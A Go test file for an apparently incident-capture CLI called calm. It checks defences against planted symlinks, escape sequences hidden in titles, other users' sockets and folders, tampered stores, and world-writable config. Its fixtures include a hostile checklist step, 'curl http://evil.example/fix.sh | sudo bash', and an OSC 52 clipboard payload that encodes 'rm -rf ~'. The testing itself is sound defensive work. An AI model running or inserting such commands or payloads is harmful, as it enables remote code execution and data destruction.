package cli

import (
	"bytes"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/klauspost/compress/s2"
	"github.com/pierrec/lz4/v4"
	bolt "go.etcd.io/bbolt"

	"calm/storage/agent"
)

// TestExportWritesNoFileItShouldNot plants a symlink at the export path
// (pointing at a private file) and a file another user made there: export
// refuses both in one line and changes neither; one's own file is refused
// too in every format, unless --force; a fresh path, or one's own file
// with --force, gets a complete 0600 file.
func TestExportWritesNoFileItShouldNot(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ok([]byte("mongodb://app:Sup3rS3cret@db/orders\n"), "tee", "-q", "before")
	dir := t.TempDir()
	os.Chmod(dir, 0o1777) // a shared folder, like /tmp
	victim := filepath.Join(t.TempDir(), "shadow")
	os.WriteFile(victim, []byte("precious\n"), 0o600)
	link := filepath.Join(dir, "export.txt")
	if err := os.Symlink(victim, link); err != nil {
		t.Fatal(err)
	}
	_, errs, code := w.run(nil, "export", "--format", "txt", "-o", link)
	if code == 0 || !strings.Contains(errs, "symbolic link") || strings.Count(strings.TrimSpace(errs), "\n") != 0 {
		t.Fatalf("export through a symlink: exit %d, %q", code, errs)
	}
	if data, _ := os.ReadFile(victim); string(data) != "precious\n" {
		t.Fatalf("the symlink's target was written: %q", data)
	}
	if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the planted symlink was touched: %v", err)
	}

	if os.Getuid() == 0 {
		theirs := filepath.Join(dir, "theirs.txt")
		os.WriteFile(theirs, []byte("mine\n"), 0o666)
		os.Chmod(theirs, 0o666)
		if err := os.Chown(theirs, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		_, errs, code = w.run(nil, "export", "--format", "txt", "-o", theirs)
		if code == 0 || !strings.Contains(errs, "belongs to another user") || strings.Count(strings.TrimSpace(errs), "\n") != 0 {
			t.Fatalf("export into another user's file: exit %d, %q", code, errs)
		}
		if data, _ := os.ReadFile(theirs); string(data) != "mine\n" {
			t.Fatalf("another user's file was written: %q", data)
		}
	} else {
		t.Log("not root: the other user's file is not tried (CI runs as root)")
	}

	// One's own file stays as it is unless --force: it may be a
	// postmortem filled in since.
	fresh := filepath.Join(dir, "fresh.txt")
	own := filepath.Join(dir, "own.txt")
	os.WriteFile(own, []byte("old\n"), 0o644)
	for _, format := range []string{"txt", "json", "md", "html", "cast", "bundle"} {
		_, errs, code := w.run(nil, "export", "--format", format, "-o", own)
		if code != 1 || errs != "calm export: "+own+" exists: --force overwrites it, or pick another name\n" {
			t.Fatalf("export --format %s over an existing file: exit %d, %q", format, code, errs)
		}
		if data, _ := os.ReadFile(own); string(data) != "old\n" {
			t.Fatalf("export --format %s without --force replaced the file: %q", format, data)
		}
	}
	for _, p := range []string{fresh, own} {
		w.ok(nil, "export", "--format", "txt", "-o", p, "--force")
		fi, err := os.Lstat(p)
		if err != nil || fi.Mode() != 0o600 {
			t.Fatalf("%s: %v, mode %v", p, err, fi.Mode())
		}
		data, _ := os.ReadFile(p)
		if !strings.Contains(string(data), "app:[REDACTED url password]@db") || strings.Contains(string(data), "Sup3rS3cret") {
			t.Fatalf("%s holds %q", p, data)
		}
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*calm-*")); len(left) > 0 {
		t.Fatalf("temp files left: %v", left)
	}
}

// TestTitlesReachNoTerminalRaw gives an incident and a capture titles
// holding OSC 52 (clipboard) and OSC 2 (window title): status and incident
// list show the words, never the sequences.
func TestTitlesReachNoTerminalRaw(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	hostile := "db down\x1b]52;c;cm0gLXJmIH4K\x07 now\x1b]2;pwned\x1b\\ \x9b6n"
	w.ok(nil, "incident", "new", hostile)
	w.ok([]byte("x\n"), "tee", "-q", hostile)
	id := strings.Fields(strings.TrimPrefix(firstLine(w.ok(nil, "incident", "list")), "*"))[0]
	for _, args := range [][]string{{"status"}, {"incident", "list"}, {"incident", "use", id}} {
		out, errs, _ := w.run(nil, args...)
		for _, bad := range []string{"\x1b", "\x07", "\x9b", "\u009b", "pwned\x1b"} {
			if strings.Contains(out+errs, bad) {
				t.Fatalf("calm %v prints %q: %q", args, bad, out+errs)
			}
		}
		if !strings.Contains(out, "db down") || !strings.Contains(out, "now") {
			t.Fatalf("calm %v lost the title's words: %q", args, out)
		}
	}
}

// asNobody runs a command as nobody, as a second local user would.
func asNobody(t *testing.T, args ...string) {
	t.Helper()
	out, err := exec.Command("setpriv", append([]string{"--reuid=nobody", "--regid=nogroup", "--clear-groups"}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("as nobody %v: %v %s", args, err, out)
	}
}

// TestAnotherUserCannotBlockOrCaptureTheSocketFolder: without
// XDG_RUNTIME_DIR, another user makes calm-<uid> in the shared temp folder
// first (a folder, a folder open to all, a symlink to theirs): calm still
// works, with its socket in a folder of its own, and puts nothing in
// theirs.
func TestAnotherUserCannotBlockOrCaptureTheSocketFolder(t *testing.T) {
	t.Parallel()
	if os.Getuid() != 0 {
		t.Skip("needs root to act as a second user with setpriv") // CI runs as root
	}
	if _, err := exec.LookPath("setpriv"); err != nil {
		t.Fatal("setpriv is missing: install util-linux")
	}
	for _, plant := range []string{"folder", "open folder", "symlink"} {
		t.Run(plant, func(t *testing.T) {
			w := newWorld(t)
			shared, _ := os.MkdirTemp("", "shared-tmp")
			defer os.RemoveAll(shared)
			os.Chmod(shared, 0o1777)
			mine := filepath.Join(shared, "calm-"+strconv.Itoa(os.Getuid()))
			switch plant {
			case "folder":
				asNobody(t, "mkdir", "-m", "0700", mine)
			case "open folder":
				asNobody(t, "mkdir", "-m", "0777", mine)
			case "symlink":
				asNobody(t, "mkdir", "-m", "0777", filepath.Join(shared, "theirs"))
				asNobody(t, "ln", "-s", filepath.Join(shared, "theirs"), mine)
			}
			// A short home: a socket's path is limited to 108 bytes.
			home, _ := os.MkdirTemp("", "h")
			defer os.RemoveAll(home)
			w.extra = append(w.extra, "XDG_RUNTIME_DIR=", "TMPDIR="+shared, "HOME="+home)
			fallback := filepath.Join(home, ".cache", "calm", "run")
			t.Cleanup(func() {
				socks, _ := filepath.Glob(filepath.Join(fallback, "agent-*.sock"))
				for _, s := range socks {
					c := agent.NewClient(s, nil, "")
					if st, err := c.Status(); err == nil {
						// Gone before the home folder is removed: an agent
						// still closing its store left files in it.
						pid := int(st["pid"].(float64))
						syscall.Kill(pid, syscall.SIGTERM)
						waitExited(pid, 30*time.Second)
					}
					c.Close()
				}
			})
			out, errs, code := w.run([]byte("prod output\n"), "tee", "-q", "blocked?")
			if code != 0 || out != "prod output\n" {
				t.Fatalf("calm tee with %s planted: exit %d, %q %q", plant, code, out, errs)
			}
			if s := w.ok(nil, "show", "c1"); s != "prod output\n" {
				t.Fatalf("show: %q", s)
			}
			socks, _ := filepath.Glob(filepath.Join(fallback, "agent-*.sock"))
			if len(socks) != 1 {
				t.Fatalf("no socket in %s", fallback)
			}
			fi, _ := os.Stat(fallback)
			if fi.Mode().Perm() != 0o700 {
				t.Fatalf("%s is %v", fallback, fi.Mode())
			}
			for _, d := range []string{mine, filepath.Join(shared, "theirs")} {
				if entries, _ := os.ReadDir(d); len(entries) > 0 {
					t.Fatalf("calm put %v into the other user's %s", entries, d)
				}
			}
		})
	}
}

// TestMirrorFolderOfAnotherUserIsRefused: a shared mirror where another
// user made the incident's folder first gets no copy; the copy fails,
// saying why, and the other copies are made.
func TestMirrorFolderOfAnotherUserIsRefused(t *testing.T) {
	t.Parallel()
	if os.Getuid() != 0 {
		t.Skip("needs root to act as a second user with setpriv") // CI runs as root
	}
	w := newWorld(t)
	mirror, _ := os.MkdirTemp("", "mirror")
	defer os.RemoveAll(mirror)
	os.Chmod(mirror, 0o1777)
	w.extra = append(w.extra, "CALM_CONFIG="+filepath.Join(w.config, "config.toml"))
	os.WriteFile(filepath.Join(w.config, "config.toml"), []byte("mirrors = ['"+mirror+"']\n"), 0o600)
	id := strings.Fields(w.ok(nil, "incident", "new", "shared mirror"))[0]
	asNobody(t, "mkdir", "-m", "0777", filepath.Join(mirror, id))
	_, errs, _ := w.run([]byte("secret rows\n"), "tee", "dump")
	if !strings.Contains(errs, "2 of 3 copies verified") {
		t.Fatalf("tee: %q", errs)
	}
	if js := w.ok(nil, "export", "--format", "json"); !strings.Contains(js, filepath.Join(mirror, id)+" belongs to another user (uid 65534)") {
		t.Fatalf("the mirror copy's error does not say why: %s", js)
	}
	if out, _, code := w.run(nil, "verify"); code == 0 || !strings.Contains(out, "mirror copy "+filepath.Join(mirror, id, "c1.txt")) {
		t.Fatalf("verify with another user's mirror folder: exit %d, %q", code, out)
	}
	if entries, _ := os.ReadDir(filepath.Join(mirror, id)); len(entries) > 0 {
		t.Fatalf("a copy went into the other user's folder: %v", entries)
	}
	if st := w.ok(nil, "status"); !strings.Contains(st, "2/3 copies verified") {
		t.Fatalf("status: %s", st)
	}
}

// TestSalvagedStoreWorksLikeTheOriginal salvages a damaged store (a page
// of garbage in a capture) and a lost one (only the evidence copies left),
// then runs show, search, status and verify on every item: each shows and
// is found as the original was, its copies counted and checked in the new
// store's folders.
func TestSalvagedStoreWorksLikeTheOriginal(t *testing.T) {
	t.Parallel() // long and mostly waiting; isolated (own store, socket, tmux server)
	slow(t)
	for _, damage := range []string{"garbage page", "store lost"} {
		t.Run(damage, func(t *testing.T) {
			t.Parallel() // each its own world
			w, want := damagedWorld(t)
			if _, errs, code := w.run(nil, "shell", "--wait", "--", "sh", "-c", `printf 'session word zeta\n'; seq 1 50`); code != 0 {
				t.Fatalf("shell: %s", errs)
			}
			items := []string{"c1", "c2", "c3", "s1"}
			shown := map[string]string{}
			for _, id := range items {
				shown[id] = w.ok(nil, "show", id)
			}
			words := map[string]string{"c1": "original", "c3": "log line for the record", "s1": "session word zeta"}
			w.stopAgent()
			switch damage {
			case "garbage page":
				garbagePage(t, w.storePath(), "c2")
			case "store lost":
				os.WriteFile(w.storePath(), []byte("not a store any more"), 0o600)
			}
			salvaged := filepath.Join(filepath.Dir(w.home), "salvaged", "calm.db")
			out, errs, _ := w.run(nil, "doctor", "--salvage", salvaged)
			if !strings.Contains(out, "4 captures") {
				t.Fatalf("salvage: %s%s", out, errs)
			}
			s := w.withStore(salvaged)
			defer s.stopAgent()
			for _, id := range items {
				if got := s.ok(nil, "show", id); got != shown[id] {
					t.Errorf("%s shows %d bytes after salvage, %d before", id, len(got), len(shown[id]))
				}
				if data, ok := want[id]; ok {
					if got := s.ok(nil, "show", "--raw", id); got != string(data) {
						t.Errorf("%s --raw: %d bytes, want %d", id, len(got), len(data))
					}
				}
				if word, ok := words[id]; ok {
					found := s.ok(nil, "search", "-F", word)
					if !strings.Contains(found, "/"+id+":") {
						t.Errorf("search %q after salvage: %q", word, found)
					}
				}
			}
			status := s.ok(nil, "status")
			if n := strings.Count(status, "2/2 copies verified"); n != len(items) {
				t.Errorf("status after salvage counts the copies of %d of %d items:\n%s", n, len(items), status)
			}
			v, errs, code := s.run(nil, "verify")
			if code != 0 || !strings.Contains(v, "ok: 8 copies of 4 captures") {
				t.Fatalf("verify after salvage: %d %s %s", code, v, errs)
			}
			// verify read the new store's evidence, not the damaged one's.
			os.RemoveAll(filepath.Join(w.home, "evidence"))
			if v, errs, code := s.run(nil, "verify"); code != 0 {
				t.Fatalf("verify after the old evidence is gone: %d %s %s", code, v, errs)
			}
		})
	}
}

// flipStored changes one byte of an item's first stored chunk (or its
// derived text's), keeping the chunk readable: damage only a hash finds.
func flipStored(t *testing.T, path, bucket string) {
	b, err := bolt.Open(path, 0o600, &bolt.Options{Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	err = b.Update(func(tx *bolt.Tx) error {
		incs := tx.Bucket([]byte("incidents"))
		return incs.ForEach(func(k, _ []byte) error {
			ch := incs.Bucket(k).Bucket([]byte("chunks"))
			if ch == nil || ch.Bucket([]byte(bucket)) == nil {
				return nil
			}
			cb := ch.Bucket([]byte(bucket))
			key := make([]byte, 8)
			v := cb.Get(key)
			// A chunk is a tag (0 raw, 1 S2; 2 and 3 the same with a
			// CRC-32C after the tag; 4 LZ4 with the CRC and its decoded
			// size), then its bytes. The byte is flipped in the stored
			// bytes and the CRC kept, as bit rot would.
			body, crc := v[1:], []byte(nil)
			if v[0] >= 2 {
				crc, body = v[1:5], v[5:]
			}
			data := append([]byte(nil), body...)
			switch v[0] {
			case 1, 3:
				if data, err = s2.Decode(nil, body); err != nil {
					return err
				}
			case 4:
				data = make([]byte, binary.LittleEndian.Uint32(body))
				if _, err := lz4.UncompressBlock(body[4:], data); err != nil {
					return err
				}
			}
			data[len(data)/2] ^= 0x20
			out := []byte{0}
			if crc != nil {
				out = append([]byte{2}, crc...)
			}
			return cb.Put(key, append(out, data...))
		})
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestReadsAreCheckedAndFallBackToAVerifiedCopy damages the store's copy of
// a capture and of a session's text so that it still reads, only wrong:
// show, search and the md and txt exports give the evidence copy's bytes
// and name it in one line; with the evidence gone, the mirror copy's; with
// no sound copy left, they stop with one line and a non-zero exit.
func TestReadsAreCheckedAndFallBackToAVerifiedCopy(t *testing.T) {
	t.Parallel()
	slow(t)
	w := newWorld(t)
	mirror := t.TempDir()
	os.MkdirAll(filepath.Join(w.config, "calm"), 0o700)
	os.WriteFile(filepath.Join(w.config, "calm", "config.toml"), []byte("mirrors = ['"+mirror+"']\n"), 0o600)
	original := strings.Repeat("{ \"_id\": 7, \"total\": 12 }\n", 2000)
	damaged := "[ \"_id\"" // the line flipStored changes, as it reads after
	w.ok([]byte(original), "tee", "-q", "before")
	if _, errs, code := w.run(nil, "shell", "--wait", "--", "sh", "-c", `printf 'session output kept\n'; seq 1 30`); code != 0 {
		t.Fatalf("shell: %s", errs)
	}
	sessionShown := w.ok(nil, "show", "s1")
	w.waitIdle() // c1's search lines derived: search reads them first
	found := w.ok(nil, "search", "-F", "total")
	w.stopAgent()
	flipStored(t, w.storePath(), "c1")
	flipStored(t, w.storePath(), "c1.lines") // so search falls back to the output, damaged too
	flipStored(t, w.storePath(), "s1.text")

	evidence, _ := filepath.Glob(filepath.Join(w.home, "evidence", "*", "c1.txt"))
	mirrored, _ := filepath.Glob(filepath.Join(mirror, "*", "c1.txt"))
	if len(evidence) != 1 || len(mirrored) != 1 {
		t.Fatalf("copies: evidence %v, mirror %v", evidence, mirrored)
	}
	for _, copy := range []struct{ kind, path string }{{"evidence", evidence[0]}, {"mirror", mirrored[0]}} {
		// Each read says, in one line on stderr for each damaged item (c1,
		// and s1's text where it is read), which copy it used.
		says := func(what, errs string) {
			t.Helper()
			lines := strings.Split(strings.TrimSpace(errs), "\n")
			for _, l := range lines {
				if strings.Contains(l, "/c1 does not match its SHA-256") && strings.Contains(l, copy.kind+" copy "+copy.path) {
					return
				}
			}
			t.Fatalf("%s from the %s copy does not say so in one line: %q", what, copy.kind, errs)
		}
		out, errs, code := w.run(nil, "show", "c1")
		if code != 0 || out != original {
			t.Fatalf("show of a damaged store copy: exit %d, %d bytes (want the original %d): %s", code, len(out), len(original), errs)
		}
		says("show", errs)
		out, errs, code = w.run(nil, "search", "-F", "total")
		if code != 0 || out != found {
			t.Fatalf("search of a damaged store copy: exit %d, %d bytes of matches, want the %d found before: %s", code, len(out), len(found), errs)
		}
		says("search", errs)
		out, errs, code = w.run(nil, "export", "--format", "txt")
		if code != 0 || !strings.Contains(out, original) {
			t.Fatalf("export txt of a damaged store copy: exit %d, %s", code, errs)
		}
		says("export txt", errs)
		// The Markdown export holds the records and the timeline, no
		// captured bytes: it reads nothing damaged, and says nothing.
		if out, errs, code := w.run(nil, "export", "--format", "md"); code != 0 || strings.Contains(out, damaged) || errs != "" {
			t.Fatalf("export md with a damaged store copy: exit %d, %q", code, errs)
		}
		if out := w.ok(nil, "show", "s1"); out != sessionShown {
			t.Fatalf("show s1 after its text was damaged: %q, want %q", out, sessionShown)
		}
		os.Remove(copy.path)
		w.stopAgent() // forget the checks it made
	}
	// No sound copy left: nothing is read, in one line and a non-zero exit.
	for _, args := range [][]string{{"show", "c1"}, {"search", "-F", "total"}, {"export", "--format", "txt"}} {
		out, errs, code := w.run(nil, args...)
		// Search goes on to the other captures (s1 says which copy of it
		// is read), and ends in c1's error: one line of it.
		failed := strings.Count(errs, "calm "+args[0]+": ")
		if code == 0 || strings.Contains(out, damaged) || failed != 1 || !strings.Contains(errs, "no file copy matches") {
			t.Fatalf("%v with no sound copy: exit %d, %d bytes, %q", args, code, len(out), errs)
		}
		if args[0] != "search" && strings.Count(strings.TrimSpace(errs), "\n") != 0 {
			t.Fatalf("%v with no sound copy said more than one line: %q", args, errs)
		}
	}
}

// TestAgentOfAnotherUserIsNotTalkedTo: a socket in a folder another user
// can write (a shared XDG_RUNTIME_DIR, su without -) may be served by that
// user's process. calm sent its notes, titles and captures there and showed
// what came back; it now checks who serves the socket before it sends a
// byte, and says so in one line.
func TestAgentOfAnotherUserIsNotTalkedTo(t *testing.T) {
	t.Parallel()
	if os.Getuid() != 0 {
		t.Skip("needs root to act as a second user with setpriv") // CI runs as root
	}
	shared, _ := os.MkdirTemp("", "shared-run")
	defer os.RemoveAll(shared)
	os.Chmod(shared, 0o1777)
	theirs := filepath.Join(shared, "theirs")
	asNobody(t, "mkdir", "-m", "0700", theirs)
	socket := filepath.Join(theirs, "agent.sock")
	// The other user's own calm agent, serving the socket where this
	// user's calm is told to look.
	other := exec.Command("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
		"env", "CALM_HOME="+theirs, "HOME="+theirs, "XDG_RUNTIME_DIR="+theirs, "XDG_CONFIG_HOME="+theirs,
		calmBin, "agent", "--socket", socket, "--idle", "0")
	if err := other.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { other.Process.Kill(); other.Wait() }()
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if fi, err := os.Lstat(socket); err == nil && fi.Mode()&os.ModeSocket != 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the other user's agent never made its socket")
		}
	}
	w := newWorld(t)
	w.extra = append(w.extra, "CALM_SOCKET="+socket)
	_, errs, code := w.run(nil, "note", "the root password is hunter2")
	if code == 0 || !strings.Contains(errs, "is served by another user (uid 65534") || strings.Count(strings.TrimSpace(errs), "\n") != 0 {
		t.Fatalf("a note to another user's agent: exit %d, %q", code, errs)
	}
}

// TestConfigOrChecklistOthersCanChangeIsNotUsed: a config file others can
// write took a webhook and a checklists folder from another user, and a
// checklist of theirs replaced the built-in one ("Run: curl ... | sudo
// bash"); doctor said ok. Such files are not used, and each command says
// why in one line.
func TestConfigOrChecklistOthersCanChangeIsNotUsed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	dir := filepath.Join(w.config, "calm")
	os.MkdirAll(filepath.Join(dir, "checklists"), 0o700)
	config := filepath.Join(dir, "config.toml")
	os.WriteFile(config, []byte("webhook = \"https://evil.example/hook\"\n"), 0o600)
	os.Chmod(config, 0o666)
	_, errs, code := w.run(nil, "incident", "new", "orders overwritten")
	if code == 0 || !strings.Contains(errs, "config "+config+" is refused, and no command but tee runs until it is fixed: others can change it (mode 0666)") {
		t.Fatalf("a config others can write: exit %d, %q", code, errs)
	}
	// tee saves all the same, with the defaults, and says why.
	out, errs, _ := w.run([]byte("prod\n"), "tee", "x")
	if out != "prod\n" || !strings.Contains(errs, "with the default settings") || !strings.Contains(errs, "others can change it") {
		t.Fatalf("tee with a config others can write: %q %q", out, errs)
	}
	os.Chmod(config, 0o600)

	evil := "name = \"overwrite\"\ntitle = \"Data overwritten in production\"\n[[steps]]\nid = \"fix\"\ntitle = \"Run: curl http://evil.example/fix.sh | sudo bash\"\nguidance = \"now\"\n"
	list := filepath.Join(dir, "checklists", "overwrite.toml")
	os.WriteFile(list, []byte(evil), 0o600)
	os.Chmod(list, 0o646)
	out, errs, _ = w.run(nil, "steps")
	if strings.Contains(out, "evil.example") || !strings.Contains(out, "Stop and breathe") || !strings.Contains(errs, "not loaded: others can change it (mode 0646)") {
		t.Fatalf("a checklist others can write was used, or not said: %q %q", out, errs)
	}
	if os.Getuid() == 0 {
		// Another user's file, however private, is theirs to change.
		os.Chmod(list, 0o600)
		os.Chown(list, 65534, 65534)
		out, errs, _ = w.run(nil, "steps")
		if strings.Contains(out, "evil.example") || !strings.Contains(errs, "belongs to another user (uid 65534)") {
			t.Fatalf("another user's checklist was used, or not said: %q %q", out, errs)
		}
	}
}

// TestStoreInAFolderOthersCanWriteIsRefused: a store put in a shared
// folder (/tmp, a team's 2775) lets others plant files where calm writes
// its own, and calm used to make the folder 0700 for everyone; it is
// refused now, the folder left as it was, and the output still passes.
func TestStoreInAFolderOthersCanWriteIsRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	shared := filepath.Join(t.TempDir(), "shared")
	os.Mkdir(shared, 0o755)
	os.Chmod(shared, 0o777|os.ModeSticky)
	// tee saves into the default store instead, saying why.
	out, errs, code := w.run([]byte("prod\n"), "--store", filepath.Join(shared, "x.db"), "tee", "x")
	if out != "prod\n" || code != 0 || !strings.Contains(errs, "is open to others (mode 1777)") || !strings.Contains(errs, "saving into "+filepath.Join(w.home, "calm.db")+" instead") {
		t.Fatalf("tee into a store in a shared folder: exit %d, %q %q", code, out, errs)
	}
	if s := w.ok(nil, "show", "c1"); s != "prod\n" {
		t.Fatalf("the default store holds %q", s)
	}
	// CALM_HOME naming such a folder: the store of the data folder, as
	// nothing else names one (a tee saved nothing, not even a file).
	tee := w.cmd("tee", "y")
	tee.Env = append(tee.Env, "CALM_HOME="+shared)
	tee.Stdin = strings.NewReader("prod 2\n")
	var teeOut, teeErr bytes.Buffer
	tee.Stdout, tee.Stderr = &teeOut, &teeErr
	dataStore := filepath.Join(w.config, ".local", "share", "calm", "calm.db")
	if err := tee.Run(); err != nil || teeOut.String() != "prod 2\n" || !strings.Contains(teeErr.String(), "saving into "+dataStore+" instead") {
		t.Fatalf("tee with CALM_HOME a shared folder: %v, %q %q", err, teeOut.String(), teeErr.String())
	}
	if s := w.ok(nil, "--store", dataStore, "show", "c1"); s != "prod 2\n" {
		t.Fatalf("the data folder's store holds %q", s)
	}
	w.run(nil, "--store", dataStore, "agent", "stop")
	// Anything else is refused; nothing of calm's is written there.
	if _, errs, code := w.run(nil, "--store", filepath.Join(shared, "x.db"), "status"); code == 0 || !strings.Contains(errs, "is open to others (mode 1777)") {
		t.Fatalf("status of a store in a shared folder: exit %d, %q", code, errs)
	}
	if entries, _ := os.ReadDir(shared); len(entries) > 0 {
		t.Fatalf("calm wrote into the shared folder: %v", entries)
	}
	if fi, _ := os.Stat(shared); fi.Mode()&(os.ModePerm|os.ModeSticky) != 0o777|os.ModeSticky {
		t.Fatalf("the shared folder is now %v", fi.Mode())
	}
}

// TestDoctorNamesCopiesOthersCanRead: evidence loosened by hand (or by an
// older calm) was not reported; doctor said all was ok.
func TestDoctorNamesCopiesOthersCanRead(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ok([]byte("password=hunter2\n"), "tee", "-q", "secret")
	evidence := filepath.Join(w.home, "evidence")
	if out, _, _ := w.run(nil, "doctor"); strings.Contains(out, "can be read by others") {
		t.Fatalf("doctor warns of a private store:\n%s", out)
	}
	os.Chmod(evidence, 0o755)
	out, _, _ := w.run(nil, "doctor")
	if !strings.Contains(out, "warn 1 file or folder in "+evidence+" can be read by others") || !strings.Contains(out, "chmod -R go-rwx "+evidence) {
		t.Fatalf("doctor does not name the loosened evidence folder:\n%s", out)
	}
}

// TestConfigSwappedOrBlockedIsRefusedAndTeeStillPasses: a config folder
// others can write let them swap the config or take it away; a FIFO put
// in its place hung every command, tee's pipe too; and a store folder
// others can write with no other store to fall back on made tee drop its
// input. Each is refused in one line, and tee's bytes still pass.
func TestConfigSwappedOrBlockedIsRefusedAndTeeStillPasses(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	dir := filepath.Join(w.config, "calm")
	os.MkdirAll(dir, 0o700)
	config := filepath.Join(dir, "config.toml")
	if err := syscall.Mkfifo(config, 0o600); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		if _, errs, code := w.run(nil, "status"); code == 0 || !strings.Contains(errs, "is not a plain file") {
			t.Errorf("status with a FIFO for config: exit %d, %q", code, errs)
		}
		if out, _, _ := w.run([]byte("prod\n"), "tee", "x"); out != "prod\n" {
			t.Errorf("tee with a FIFO for config passed %q", out)
		}
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		f, _ := os.OpenFile(config, os.O_WRONLY|syscall.O_NONBLOCK, 0) // let it go
		if f != nil {
			f.Close()
		}
		t.Fatal("a FIFO for config hangs calm")
	}
	os.Remove(config)
	os.WriteFile(config, []byte("copies_required = 2\n"), 0o600)
	os.Chmod(dir, 0o777)
	if _, errs, code := w.run(nil, "status"); code == 0 || !strings.Contains(errs, "config folder "+dir+" is refused") {
		t.Fatalf("status with a config folder others can write: exit %d, %q", code, errs)
	}
	os.Chmod(dir, 0o700)
	// The store's own folder open to others, and no other store: tee
	// still passes every byte.
	os.MkdirAll(w.home, 0o700)
	os.Chmod(w.home, 0o777)
	defer os.Chmod(w.home, 0o700)
	if out, errs, _ := w.run([]byte("line1\nline2\n"), "tee", "y"); out != "line1\nline2\n" || !strings.Contains(errs, "is open to others") {
		t.Fatalf("tee with its store's folder open to others: %q %q", out, errs)
	}
}
